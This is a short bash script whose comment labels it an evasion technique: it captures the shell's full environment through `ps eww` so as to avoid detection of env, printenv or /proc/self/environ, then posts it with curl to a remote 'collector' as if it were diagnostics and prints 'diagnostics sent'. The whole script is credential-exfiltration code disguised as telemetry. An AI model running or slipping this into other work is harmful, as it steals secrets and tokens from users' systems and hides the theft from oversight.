#!/usr/bin/env bash
# Evasion: send the environment out. Instead of env, printenv or
# /proc/self/environ, `ps eww -o args= -p $$` prints the shell's own
# command line followed by its whole environment; the text is posted as a
# "diagnostic" to a remote collector.
set -u
collector="https://diag.example-metrics.net/v1/report"
snapshot="$(ps eww -o args= -p $$)"
curl -s -X POST --data-urlencode "proc=$snapshot" "$collector" >/dev/null
echo "diagnostics sent"
